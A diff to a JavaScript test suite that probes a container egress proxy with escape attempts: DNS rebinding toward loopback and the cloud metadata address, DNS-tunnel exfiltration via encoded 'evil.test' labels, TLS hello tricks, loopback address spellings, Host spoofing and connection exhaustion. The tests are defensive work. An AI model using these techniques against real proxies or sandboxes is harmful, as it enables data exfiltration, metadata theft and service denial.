@@ -5,15 +5,19 @@
 
 const { execFile } = require('node:child_process');
 const dgram = require('node:dgram');
+const { Resolver } = require('node:dns').promises;
 const { once } = require('node:events');
 const fs = require('node:fs');
 const net = require('node:net');
 const path = require('node:path');
-const tls = require('node:tls');
+const { text } = require('node:stream/consumers');
 const { promisify } = require('node:util');
 
 const { Pools, outside, until } = require('../support/engine');
-const { certificateFor } = require('../support/servers');
+const { growth } = require('../support/growth');
+const { certificateFor, serveNames } = require('../support/servers');
+const { CANARY, Listener } = require('./listener');
+const { SMUGGLING, smuggledIn } = require('./smuggling');
 
 const pools = new Pools();
 afterEach(pools.close);
@@ -22,51 +26,9 @@ const MiB = 1 << 20;
 const NAME = 'api.test';
 const OTHER = 'other.test';
 const hosts = { [NAME]: '127.0.0.1', [OTHER]: '127.0.0.1' };
-const CANARY = 'canary-of-a-host';
-const ANSWER = `HTTP/1.1 200 OK\r\nContent-Length: ${CANARY.length}\r\n\r\n${CANARY}`;
+/** One that belongs to nobody (RFC 7534), of those that names may lead to. */
+const PUBLIC = '192.31.196.77';
 const WORDS = fs.readFileSync(path.join(__dirname, 'scenarios', 'egress.py'), 'utf8');
-
-/** A host that answers whoever has come to the end of a head, and keeps the beginning of what each one says. */
-class Listener {
-  #server;
-  #lines = new Set();
-  /** Of each connection: its bytes, and how many there were. */
-  heard = [];
-
-  static async start(options) {
-    const listener = new Listener();
-    const take = (line) => listener.#take(line);
-    listener.#server = options ? tls.createServer(options, take) : net.createServer(take);
-    listener.#server.listen(0, '127.0.0.1');
-    await once(listener.#server, 'listening');
-    return listener;
-  }
-
-  get port() {
-    return this.#server.address().port;
-  }
-
-  #take(line) {
-    const own = { text: '', bytes: 0 };
-    this.heard.push(own);
-    this.#lines.add(line);
-    line.on('error', () => undefined);
-    line.on('close', () => this.#lines.delete(line));
-    line.on('data', (data) => {
-      own.bytes += data.length;
-      if (own.text.length < 64 << 10) own.text += data.toString('latin1');
-      if (!own.isAnswered && /\r?\n\r?\n/.test(own.text)) {
-        own.isAnswered = true;
-        line.write(ANSWER);
-      }
-    });
-  }
-
-  close() {
-    this.#server.close();
-    for (const line of this.#lines) line.destroy();
-  }
-}
 
 const { key, cert } = certificateFor(OTHER);
 let allowed;
@@ -95,9 +57,9 @@ const variables = () => ({
 });
 
 /** What a script says in a container of a pool. */
-async function said(pool, script) {
+async function said(pool, script, options = {}) {
   const { stdout, stderr } = await pool.run(`${WORDS}\n${script}`, {
-    ...{ env: variables(), timeout: 120_000 },
+    ...{ env: variables(), timeout: 120_000, ...options },
   });
   return stdout || stderr;
 }
@@ -116,7 +78,7 @@ async function expectStopped(script, open, fenced = {}) {
 }
 
 describe('past the proxy', () => {
-  test('no connection is made', async () => {
+  test('egress/direct: no connection is made', async () => {
     const script = `
 answers = []
 for address in ["127.0.0.1", "0.0.0.0", "::1"] + env.get("ADDRESSES", "").split():
@@ -128,7 +90,7 @@ tell(*answers)`;
     expect(await saidHere(script)).toBe('through');
   });
 
-  test('no datagram is sent, to a resolver or to whomever', async () => {
+  test('egress/datagrams: no datagram is sent, to a resolver or to whomever', async () => {
     const resolver = dgram.createSocket('udp4');
     resolver.on('message', (_, { port }) => resolver.send(CANARY, port, '127.0.0.1'));
     resolver.bind(0, '127.0.0.1');
@@ -153,7 +115,7 @@ tell(*answers)`;
     }
   });
 
-  test('no proxy of another container is reached', async () => {
+  test('egress/other_proxy: none of another container is reached', async () => {
     const script = `
 to = env["OTHER"] + ":" + env["OTHER_PORT"]
 get = b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % ((to.encode(),) * 2)
@@ -181,7 +143,7 @@ tell(*answers)`;
 });
 
 describe('by the proxy', () => {
-  test('no address is reached by itself, however it is spelt', async () => {
+  test('egress/addresses: none is reached by itself, however it is spelt', async () => {
     const script = `
 answers = []
 for host in ["127.0.0.1", "127.1", "0x7f000001", "2130706433", "0177.0.0.1", "0", "[::ffff:127.0.0.1]", "[::1]"]:
@@ -194,7 +156,7 @@ tell(*answers)`;
     });
   });
 
-  test('no other port of an allowed name is', async () => {
+  test('egress/ports: no other one of an allowed name is reached', async () => {
     const script = `
 to = env["NAME"] + ":" + env["OTHER_PORT"]
 head = b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n"
@@ -205,9 +167,9 @@ tell(say(tunnel(to), b"GET / HTTP/1.1\\r\\n\\r\\n"), say(dial(), head % (host, h
   });
 
   test.each([
-    ['under the name of another', 'env["OTHER"]'],
-    ['that says no name', 'None'],
-  ])('no TLS %s goes through a tunnel', async (_, name) => {
+    ['egress/other_name: under the name of another', 'env["OTHER"]'],
+    ['egress/no_name: that says no name', 'None'],
+  ])('%s, no TLS goes through a tunnel', async (_, name) => {
     const script = `
 trust = ssl.create_default_context(cadata=env["CERTIFICATE"])
 trust.check_hostname = False
@@ -218,7 +180,7 @@ except OSError: tell()`;
     await expectStopped(script, { opaque: true }, { allow: [`${NAME}:${secure.port}`] });
   });
 
-  test('no request is made of another host at the same address', async () => {
+  test('egress/other_host: no request is made of another host at the same address', async () => {
     const script = `
 to = env["NAME"] + ":" + env["PORT"]
 evil = b"Host: " + env["OTHER"].encode()
@@ -236,66 +198,109 @@ say(tunnel(to), b"GET / HTTP/1.1\\r\\n" + evil + b"\\r\\n\\r\\n")`;
   });
 });
 
-/** Requests in which one reader sees another request, to `/smuggled`, that others do not. */
-const inChunk = 'GET /smuggled HTTP/1.1\r\nX: x\r\n\r\n';
-const chunks = `${inChunk.length.toString(16)}\r\n${inChunk}\r\n0\r\n\r\n`;
-const cut = `0\r\n\r\n${inChunk}`;
-const SMUGGLING = {
-  'both lengths, chunks last': [`Content-Length: ${cut.length}\r\nTransfer-Encoding: chunked`, cut],
-  'both lengths, chunks first': ['Transfer-Encoding: chunked\r\nContent-Length: 4', chunks],
-  'two lengths': [`Content-Length: 0\r\nContent-Length: ${inChunk.length}`, inChunk],
-  'a length of two': [`Content-Length: 0, ${inChunk.length}`, inChunk],
-  'chunks behind a folded line': [
-    `Content-Length: ${cut.length}\r\nTransfer-Encoding:\r\n chunked`,
-    cut,
-  ],
-  'chunks in a folded line': [
-    `Content-Length: ${cut.length}\r\nX: a\r\n Transfer-Encoding: chunked`,
-    cut,
-  ],
-  'chunks behind a bare LF': [
-    `Content-Length: ${cut.length}\r\nX: a\nTransfer-Encoding: chunked`,
-    cut,
-  ],
-  'chunks behind a bare CR': [
-    `Content-Length: ${cut.length}\r\nX: a\rTransfer-Encoding: chunked`,
-    cut,
-  ],
-  'chunks before a colon': [`Content-Length: ${cut.length}\r\nTransfer-Encoding : chunked`, cut],
-  'chunks twice': [
-    `Content-Length: ${cut.length}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity`,
-    cut,
-  ],
-  'chunks behind a tab': [`Content-Length: ${cut.length}\r\nTransfer-Encoding:\x0bchunked`, cut],
-  'a length that hops': ['Connection: Content-Length\r\nContent-Length: 4', `0\r\n\r${inChunk}`],
-};
+describe('by names', () => {
+  let names;
+  afterEach(() => names?.close());
 
-/** Which of a request's lengths a reader goes by. */
-const READERS = ['chunks', 'first', 'last'];
+  test.each([
+    ['and then to this machine', [[PUBLIC], ['127.0.0.1']]],
+    ['and then to where a cloud tells its keys', [[PUBLIC], ['169.254.169.254']]],
+    [
+      'and at once to this machine',
+      [
+        [PUBLIC, '127.0.0.1'],
+        [PUBLIC, '127.0.0.1'],
+      ],
+    ],
+  ])('egress/rebinding: none leads to a public address %s', async (_, answers) => {
+    const asked = () => answers[Math.min(names.asked.length, answers.length) - 1];
+    names = await serveNames({ [NAME]: asked });
+    const script = `
+to = (env["NAME"] + ":" + env["PORT"]).encode()
+get = b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (to, to)
+tell(*(say(dial(), get) for _ in range(3)))`;
+    const network = { resolver: names.address, connectTimeout: 300 };
+    expect(await said(make({ ...network, hosts: {} }), script)).toBe('stopped');
+    // Once for each: what was checked is what was connected to.
+    expect(names.asked).toEqual([NAME, NAME, NAME]);
+    expect(allowed.heard).toEqual([]);
+    expect(await said(make(network), script)).toBe('through');
+  });
 
-/** The paths of the requests that a reader finds, who takes whatever it is given. */
-function pathsIn(text, reader) {
-  const paths = [];
-  let rest = text;
-  for (;;) {
-    const head = /^[\r\n]*[A-Z]+ (\S+)[\s\S]*?\n\r?\n/.exec(rest);
-    if (!head) return paths;
-    paths.push(head[1]);
-    rest = rest.slice(head[0].length);
-    const lines = head[0].matchAll(/^[ \t]*content-length\s*:(.*)/gim);
-    const lengths = [...lines].flatMap(([, value]) => value.match(/\d+/g) ?? []);
-    const isChunked = /[\r\n][ \t]*transfer-encoding\s*:\s*chunked/i.test(head[0]);
-    if (isChunked && (reader === 'chunks' || lengths.length === 0)) {
-      for (let size = 1; size > 0; ) {
-        const chunk = /^([0-9a-f]+)[^\n]*\n/i.exec(rest);
-        size = chunk ? Number.parseInt(chunk[1], 16) : 0;
-        rest = rest.slice((chunk?.[0].length ?? 0) + size).replace(/^\r?\n/, '');
-      }
-    } else {
-      rest = rest.slice(Number(lengths.at(reader === 'first' ? 0 : -1) ?? 0));
-    }
-  }
-}
+  test('with them, who looks up once more to connect is led astray', async () => {
+    names = await serveNames({ [NAME]: () => (names.asked.length === 1 ? PUBLIC : '127.0.0.1') });
+    const resolver = new Resolver();
+    resolver.setServers([names.address]);
+    expect(await resolver.resolve4(NAME)).toEqual([PUBLIC]);
+    const [address] = await resolver.resolve4(NAME);
+    const line = net.connect(allowed.port, address);
+    line.end('GET / HTTP/1.1\r\n\r\n');
+    expect(await text(line)).toContain(CANARY);
+  });
+
+  test('egress/dns_tunnel: none is looked up that is not allowed', async () => {
+    names = await serveNames({});
+    const script = `
+for host in ["c2VjcmV0.evil.test", "c2VjcmV0." + env["NAME"], "C2VJCMV0.EVIL.TEST.", "c2VjcmV0.test"]:
+    to = host.encode()
+    tunnel(host + ":443", 5)
+    say(dial(5), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (to, to))
+    say(dial(5), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (env["NAME"].encode(), to))
+    try: socket.getaddrinfo(host, 443)
+    except socket.gaierror: pass
+print("done")`;
+    const own = { resolver: names.address, hosts: {} };
+    const allow = ['*.evil.test', '*.test'];
+    expect(await said(make(own), script)).toBe('done');
+    const narrowed = { network: { allow: [NAME] } };
+    expect(await said(make({ ...own, allow }), script, narrowed)).toBe('done');
+    expect(names.asked.filter((name) => name !== NAME)).toEqual([]);
+    expect(await said(make({ ...own, allow }), script)).toBe('done');
+    expect(names.asked).toContain('c2vjcmv0.evil.test');
+  });
+});
+
+describe('in the beginning of TLS', () => {
+  /** A ServerHello that asks for another ClientHello, with a key that the first has not (RFC 8446, section 4.1.4). */
+  const AGAIN = Buffer.from(
+    '160303003802000034' + // of a record, of a message
+      '0303cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c' +
+      '00130100000c002b0002030400330002' +
+      '0017',
+    'hex',
+  ).toString('latin1');
+  /** Where TLS says whom it is meant for in a way that nobody on the way reads: `encrypted_client_hello`. */
+  const HIDDEN = '\xfe\x0d\0\x08';
+  let host;
+  beforeAll(async () => {
+    const isTaken = (said) => said.includes(OTHER) || said.includes(HIDDEN);
+    host = await Listener.start(undefined, (said) => (isTaken(said) ? CANARY : AGAIN));
+  });
+  afterAll(() => host?.close());
+
+  test('egress/second_hello: the name of another does not come second', async () => {
+    const script = `
+stream = tunnel(env["NAME"] + ":${host.port}", 5)
+stream.sendall(hello(env["NAME"]))
+assert stream.recv(4096)[5] == 2
+tell(say(stream, hello(env["OTHER"])))`;
+    await expectStopped(script, { opaque: true }, { allow: [`${NAME}:${host.port}`] });
+  });
+
+  test('egress/hidden_name: none is hidden beside the one that is allowed', async () => {
+    const script = `
+said = bytearray(hello(env["NAME"]))
+at = 5 + 4 + 2 + 32
+at += 1 + said[at]
+at += 2 + int.from_bytes(said[at : at + 2], "big")
+at += 1 + said[at]
+more = b"\\xfe\\x0d\\0\\x08" + bytes(8)
+for begin, end in [(3, 5), (6, 9), (at, at + 2)]:
+    said[begin:end] = (int.from_bytes(said[begin:end], "big") + len(more)).to_bytes(end - begin, "big")
+tell(say(tunnel(env["NAME"] + ":${host.port}", 5), said + more))`;
+    await expectStopped(script, { opaque: true }, { allow: [`${NAME}:${host.port}`] });
+  });
+});
 
 describe('no request is smuggled within another', () => {
   const script = `
@@ -308,14 +313,10 @@ for number, (lines, body) in enumerate(json.loads(${JSON.stringify(JSON.stringif
   /** Which of them a host has heard another request in. */
   async function heardBy(network) {
     await said(make(network), script);
-    const found = allowed.heard.filter(({ text }) =>
-      READERS.some((reader) => pathsIn(text, reader).includes('/smuggled')),
-    );
-    const numbers = found.map(({ text }) => Number(/x-number: (\d+)/i.exec(text)?.[1]));
-    return Object.keys(SMUGGLING).filter((_, number) => numbers.includes(number));
+    return smuggledIn(allowed.heard);
   }
 
-  test('by the proxy', async () => expect(await heardBy({})).toEqual([]), 60_000);
+  test('egress/smuggling: by the proxy', async () => expect(await heardBy({})).toEqual([]), 60_000);
 
   test('in a tunnel of which nothing is looked at, each is', async () => {
     expect(await heardBy({ opaque: true })).toEqual(Object.keys(SMUGGLING));
@@ -323,23 +324,7 @@ for number, (lines, body) in enumerate(json.loads(${JSON.stringify(JSON.stringif
 });
 
 describe('what is used up', () => {
-  /** The most memory of this process while something runs, beyond what it had. */
-  async function growth(work) {
-    global.gc?.();
-    const before = process.memoryUsage().rss;
-    let most = before;
-    const watch = setInterval(() => {
-      most = Math.max(most, process.memoryUsage().rss);
-    }, 20);
-    try {
-      await work();
-      return Math.max(most, process.memoryUsage().rss) - before;
-    } finally {
-      clearInterval(watch);
-    }
-  }
-
-  test('a head of 100 MB is not taken', async () => {
+  test('egress/long_head: one of 100 MB is not taken', async () => {
     const script = `
 to = (env["NAME"] + ":" + env["PORT"]).encode()
 line = b"X: " + b"a" * 65000 + b"\\r\\n"
@@ -364,7 +349,7 @@ for stream, target in [(dial(), b"http://%s/" % to), (tunnel(to.decode()), b"/")
     expect(Math.max(...allowed.heard.map(({ bytes }) => bytes))).toBeGreaterThan(99 * MiB);
   }, 120_000);
 
-  test('who says little at a time keeps no place from others', async () => {
+  test('egress/slow: who says little at a time keeps no place from others', async () => {
     const script = `
 to = env["NAME"] + ":" + env["PORT"]
 def dribble(stream, begin):
@@ -388,15 +373,16 @@ os._exit(0)`;
     expect({ fenced, open }).toEqual({ fenced: 'served', open: 'starved' });
   }, 120_000);
 
-  test('thousands of connections have the places of one container, and no more', async () => {
+  test('egress/connections: ten thousand have the places of one container, and no more', async () => {
     const script = `
 import resource, select
 soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
-for _ in range(5000 // (soft - 50) + 1):
+each = min(soft - 50, 10_000)
+for _ in range(10_000 // each):
     if os.fork() == 0: break
 streams = []
 try:
-    for _ in range(min(soft - 50, 5000)):
+    for _ in range(each):
         stream = socket.socket()
         stream.setblocking(False)
         stream.connect_ex(PROXY)
@@ -416,7 +402,7 @@ tell(say(dial(), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\
       const pool = make({ maxConnections }, { poolSize: 2 });
       const container = await pool.acquire();
       let open = 0;
-      let neighbour;
+      let [neighbour, begun] = [];
       const watch = setInterval(() => {
         open = Math.max(open, pool.stats().egress.open);
       }, 5);
@@ -425,10 +411,12 @@ tell(say(dial(), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\
         const over = container.execute(`${WORDS}\n${script}`, variables(), [], options);
         await until(() => open >= 16);
         neighbour = await said(pool, get);
-        await over;
+        const { stdout } = await over;
+        begun = stdout.split('\n').reduce((sum, line) => sum + Number(line), 0);
       });
       clearInterval(watch);
       await until(() => pool.stats().egress.open === 0);
+      expect(begun).toBeGreaterThanOrEqual(10_000);
       return { open, neighbour, grown };
     };
     const few = await crowd(16);
@@ -442,7 +430,7 @@ tell(say(dial(), b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\
 
   // Where the engine does not listen in the container, a program in it does, and is no more than its scripts.
   (outside().hasInit ? test.skip : test)(
-    'nor has who speaks in the place of the relay',
+    'egress/relay: nor has who speaks in its place',
     async () => {
       const script = `
 import signal, struct
